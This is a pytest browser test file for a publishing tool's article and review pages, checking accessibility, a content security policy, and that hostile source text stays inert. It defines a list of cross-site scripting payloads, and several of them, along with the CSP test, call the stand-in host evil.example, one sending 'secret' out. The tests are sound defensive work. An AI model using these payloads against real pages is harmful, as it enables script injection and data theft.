"""Pages that anybody can use and no source can turn against their reader."""

import json
from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest

from calame.contracts import Article, Change, Paragraph, Sentence
from calame.publish.html import render_html
from calame.publish.review import render_review

if TYPE_CHECKING:
    from tests.browser.conftest import Open, Opened, Scheme

PAGES = [pytest.param(render_html, id="article"), pytest.param(render_review, id="review")]
HOSTILE = [
    "</script><script>window.__owned=1</script>",
    '"><img src="https://evil.example/x" onerror="window.__owned=1">',
    "</style></title><svg onload=window.__owned=1>",
    "javascript:window.__owned=1",
    "data:text/html,<script>window.__owned=1</script>",
    "![x](https://evil.example/?q=secret) <link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "\u202edetrevni\u2066 \u200fx\u202c",
    "<noscript><style>@import 'https://evil.example/';</style></noscript>",
]
Render = Callable[[Article], str]
Rewrite = Callable[[str], Article]


def grave(opened: "Opened", axe: str) -> list[tuple[str, str]]:
    """What axe-core finds serious or critical, with the first place of each."""
    opened.page.context.new_cdp_session(opened.page).send("Runtime.evaluate", {"expression": axe})
    found = opened.page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    return [
        (str(one["id"]), str(one["nodes"][0]["html"]))
        for one in found["violations"]
        if one["impact"] in {"serious", "critical"}
    ]


@pytest.fixture
def full(article: Article) -> Article:
    change = Change(section="sec-1", before="Il a plu.", after="Il aurait plu.", reasons=("Réserve perdue.",))
    return article.model_copy(
        update={"rounds": (article.rounds[0], article.rounds[1].model_copy(update={"changes": (change,)}))}
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("render", PAGES)
def test_axe_finds_nothing_serious(show: "Open", axe: str, full: Article, render: Render, scheme: "Scheme") -> None:
    opened = show(render(full), scheme=scheme)
    opened.page.evaluate("document.querySelectorAll('details').forEach((node) => (node.open = true))")
    assert grave(opened, axe) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious_on_a_phone_in_english(
    show: "Open", axe: str, full: Article, scheme: "Scheme"
) -> None:
    opened = show(render_review(full, ui="en"), width=390, scheme=scheme)
    opened.page.locator("#p1").click()
    assert grave(opened, axe) == []


@pytest.mark.parametrize("render", PAGES)
def test_a_page_asks_for_nothing_but_itself(show: "Open", full: Article, render: Render) -> None:
    opened = show(render(full))
    opened.page.mouse.wheel(0, 20_000)
    assert [url.partition(":")[0] for url in opened.requests] == ["file"]
    assert opened.errors == []


def test_the_policy_stops_what_a_page_would_load_or_run(show: "Open", article: Article) -> None:
    opened = show(render_review(article))
    stopped = opened.page.evaluate(
        """() => new Promise((resolve) => {
          const stopped = [];
          document.addEventListener("securitypolicyviolation", (event) => {
            stopped.push(event.effectiveDirective);
            if (stopped.length === 3) resolve(stopped.sort());
          });
          const image = document.createElement("img");
          image.src = "https://evil.example/x.png";
          const script = document.createElement("script");
          script.textContent = "window.__owned = 1";
          document.body.append(image, script);
          fetch("https://evil.example/").catch(() => {});
        })"""
    )
    assert stopped == ["connect-src", "img-src", "script-src-elem"]
    assert not opened.page.evaluate("'__owned' in window")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("render", PAGES)
def test_a_hostile_source_stays_text(show: "Open", saying: Rewrite, render: Render, text: str) -> None:
    opened = show(render(saying(text)))
    opened.page.evaluate("document.querySelectorAll('details').forEach((node) => (node.open = true))")
    opened.page.evaluate("document.querySelectorAll('button, summary, a.s').forEach((node) => node.click())")
    assert not opened.page.evaluate("'__owned' in window")
    assert len(opened.requests) == 1
    assert opened.errors == []
    schemes = opened.page.evaluate("[...document.querySelectorAll('a[href]')].map((link) => link.protocol)")
    assert set(schemes) <= {"file:", "https:", "http:"}
    shown = opened.page.evaluate("document.body.innerText")
    assert not set(shown) & set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f")


def test_sentences_written_from_right_to_left_keep_their_order(show: "Open", article: Article) -> None:
    sentences = (Sentence(text="שלום"), Sentence(text="עולם"))
    lead = article.draft.sections[0].model_copy(update={"paragraphs": (Paragraph(sentences=sentences),)})
    draft = article.draft.model_copy(update={"sections": (lead,)})
    opened = show(render_review(article.model_copy(update={"draft": draft})))
    places = opened.page.evaluate("['p1', 'p2'].map((id) => document.getElementById(id).getBoundingClientRect().left)")
    assert places == sorted(places)


def test_structured_data_is_read_back_whole(show: "Open", saying: Rewrite) -> None:
    text = "</script><!-- \u2028 <script>window.__owned=1</script>"
    opened = show(render_html(saying(text)))
    data = json.loads(opened.page.locator("script[type='application/ld+json']").text_content() or "")
    assert "</script>" in json.dumps(data)
